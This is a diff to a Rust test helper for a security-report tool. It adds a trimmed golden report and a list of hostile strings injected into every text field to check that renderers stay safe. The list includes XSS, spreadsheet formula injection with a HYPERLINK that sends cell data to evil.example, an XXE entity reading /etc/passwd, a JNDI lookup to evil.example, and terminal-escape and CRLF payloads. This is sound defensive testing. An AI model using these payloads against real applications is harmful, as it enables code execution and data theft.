@@ -1,14 +1,15 @@
 //! The golden report: what renderers are tested on. Judged from the stored observations of the fictional province by
 //! the built-in rules, with a past made up here. `UPDATE=1 cargo test` writes tests/data/golden/report.json anew.
 
-use std::{fs, path::Path};
+use std::{collections::BTreeSet, fs, path::Path};
 
 use khien::{
     observation::{Document, Vantage},
     report::{
-        Past, PastCard, PreviousRun, Report, Roster, RuleBook, Run, Scanner, TrendPoint, assemble, judge,
+        FindingCard, Past, PastCard, PreviousRun, Report, Roster, RuleBook, Run, Scanner, TrendPoint,
+        assemble, judge,
     },
-    rule::RuleSet,
+    rule::{Evidence, Reason, RuleId, RuleSet, Verdict},
     score::Method,
     target,
     yaml::Source,
@@ -19,6 +20,160 @@ const FOLDER: &str = "tests/data/golden";
 /// The golden report.
 pub(crate) fn report() -> Report {
     serde_json::from_str(&fs::read_to_string(Path::new(FOLDER).join("report.json")).unwrap()).unwrap()
+}
+
+/// The golden report reduced to four units that show all there is to show: a site that is excluded, a port of its own, a
+/// site that could not be tested, a unit without a site; a failure that is waived, one that is upcoming, a verdict of an
+/// earlier time. With the rules that failed there, and two that hold.
+pub(crate) fn small() -> Report {
+    let mut report = report();
+    report
+        .units
+        .retain(|unit| ["so-khcn", "bv-da-khoa", "so-xay-dung", "xa-phu-mau"].contains(&unit.id.as_str()));
+    let failed: BTreeSet<RuleId> = findings(&mut report)
+        .filter(|card| {
+            card.finding.verdict == Verdict::Fail || card.finding.rule.as_str().starts_with("dns-caa")
+        })
+        .map(|card| card.finding.rule.clone())
+        .collect();
+    let known = |rule: &RuleId| failed.contains(rule);
+    report.rules.retain(|rule| known(&rule.id));
+    for site in report.units.iter_mut().flat_map(|unit| &mut unit.sites) {
+        site.findings.retain(|card| known(&card.finding.rule));
+    }
+    let left: BTreeSet<String> = report.units.iter().map(|unit| unit.id.clone()).collect();
+    report.causes.retain(|cause| cause.units.iter().any(|unit| left.contains(unit)));
+    let mut failures = findings(&mut report).filter(|card| card.finding.verdict == Verdict::Fail);
+    failures.next().unwrap().finding.waived = true;
+    failures.next().unwrap().finding.upcoming = true;
+    let last = &mut failures.last().unwrap().finding;
+    last.as_of = Some("2026-11-20T19:00:00Z".parse().unwrap());
+    last.reason = Some(Reason::TimedOut);
+    report
+}
+
+fn findings(report: &mut Report) -> impl Iterator<Item = &mut FindingCard> {
+    report.units.iter_mut().flat_map(|unit| &mut unit.sites).flat_map(|site| &mut site.findings)
+}
+
+/// What a hostile site or a careless inventory may put wherever it is asked for a text.
+pub(crate) fn payloads() -> Vec<String> {
+    let mut all: Vec<String> = [
+        "<script>alert(1)</script>",
+        "</script></style></textarea><img src=x onerror=alert(1)>",
+        "\" onmouseover=\"alert(1)\" x=\"' autofocus onfocus='alert(1)",
+        "javascript:alert(1)//",
+        "\u{1b}[2J\u{1b}[31mred\u{1b}[0m\u{9b}31m\u{7}",
+        "\u{1b}]8;;https://evil.example/\u{1b}\\\\click\u{1b}]8;;\u{1b}\\\\\u{1b}]0;title\u{7}",
+        "\u{202e}txt.exe\u{202c}\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}",
+        "zero\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}width\u{ad}\u{180e}\u{e0001}",
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1+1",
+        "\r\n=1+1",
+        " =1+1",
+        "\"=1+1",
+        "'=1+1",
+        "\u{ff1d}1+1",
+        "\u{ff0b}1",
+        "\u{ff0d}1",
+        "\u{ff20}SUM(1)",
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+        "line one\r\nSet-Cookie: x\n\tindented\u{2028}separator\u{2029}paragraph\u{85}next",
+        "nul \u{0} bell \u{7} backspace \u{8} delete \u{7f} apc \u{9f}",
+        "not a character \u{fffe} \u{ffff} \u{1fffe} \u{fdd0} replacement \u{fffd}",
+        "\\ud800 \\u0000 %00 %0d%0a",
+        "]]><![CDATA[<x/>]]>",
+        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;&#0;&#x0;</x>",
+        "-->--!>--><?php echo 1 ?>",
+        "[click](https://evil.example/) ![x](https://evil.example/x.png) <https://evil.example/>",
+        "`code` **bold** # heading | table | {0} {1} {{2}} {",
+        "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> #{7*7}",
+        "\"quotes\" 'single' `back` «guillemets» \\backslash\\",
+        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}algo",
+        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{1f1fb}\u{1f1f3}",
+        "",
+        " ",
+    ]
+    .map(str::to_owned)
+    .into();
+    all.push("long ".repeat(2_000));
+    all.push("W".repeat(10_000));
+    all.push("=".repeat(10_000));
+    all.push(format!("a{}", "\u{301}".repeat(10_000)));
+    all
+}
+
+/// The small report with [`payloads`] wherever a text comes from the network or the inventory.
+pub(crate) fn hostile() -> Report {
+    let all = payloads();
+    let mut at = 0;
+    let mut next = move || {
+        at += 1;
+        all[at % all.len()].clone()
+    };
+    let mut report = small();
+    report.province = next();
+    report.lead_agency = next();
+    report.run.vantage.name = next();
+    if let Some(authorisation) = &mut report.authorisation {
+        authorisation.document = next();
+        authorisation.number = next();
+        authorisation.body = next();
+    }
+    for cause in &mut report.causes {
+        cause.value = next();
+        cause.sites.iter_mut().for_each(|site| *site = next());
+    }
+    for unit in &mut report.units {
+        unit.name = next();
+        if let Some(worst) = &mut unit.worst_site {
+            worst.host = next();
+        }
+        for group in &mut unit.groups {
+            group.name = next();
+            group.sites.iter_mut().for_each(|site| *site = next());
+        }
+        for step in &mut unit.fix_plan {
+            step.name = next();
+            step.rules.iter_mut().flat_map(|rule| &mut rule.sites).for_each(|site| *site = next());
+        }
+        for site in &mut unit.sites {
+            site.server = Some(next());
+            site.addresses = vec![next(), next(), next()];
+        }
+    }
+    // every one as a host, so that no format depends on the checks of the inventory
+    let model = report.units.iter().find(|unit| unit.id == "bv-da-khoa").unwrap().sites[0].clone();
+    let unit = report.units.iter_mut().find(|unit| unit.id == "bv-da-khoa").unwrap();
+    for payload in payloads() {
+        let mut site = model.clone();
+        site.host = payload;
+        site.findings.truncate(2);
+        unit.sites.push(site);
+    }
+    // and every one as evidence: alone, in a list, as a key
+    let all = payloads();
+    let mut place = 0;
+    for card in findings(&mut report) {
+        if matches!(card.finding.verdict, Verdict::Fail | Verdict::Inconclusive) {
+            let seen = |value| Evidence { fact: "http.server".to_owned(), value, address: None };
+            let text = all[place % all.len()].clone();
+            let mut map = serde_json::Map::new();
+            map.insert(text.clone(), text.clone().into());
+            card.finding.evidence = vec![
+                seen(text.clone().into()),
+                seen(vec![text.clone(), text.clone()].into()),
+                seen(map.into()),
+            ];
+            card.finding.evidence[0].address = Some(text);
+            place += 1;
+        }
+    }
+    assert!(place >= all.len(), "not every payload was used");
+    report
 }
 
 /// Compares what a renderer wrote with what stands in the golden folder; `UPDATE=1` writes it anew.
@@ -63,7 +218,7 @@ fn the_golden_report_is_what_the_rules_make_of_the_golden_observations() {
     // when a finding was first seen is the store's to say
     for site in report.units.iter_mut().flat_map(|unit| &mut unit.sites) {
         for (place, card) in site.findings.iter_mut().enumerate() {
-            if card.finding.verdict == khien::rule::Verdict::Fail {
+            if card.finding.verdict == Verdict::Fail {
                 let day = if place % 3 == 0 { "2026-11-23T19:00:00Z" } else { "2026-11-09T19:00:00Z" };
                 card.finding.first_seen = Some(day.parse().unwrap());
             }
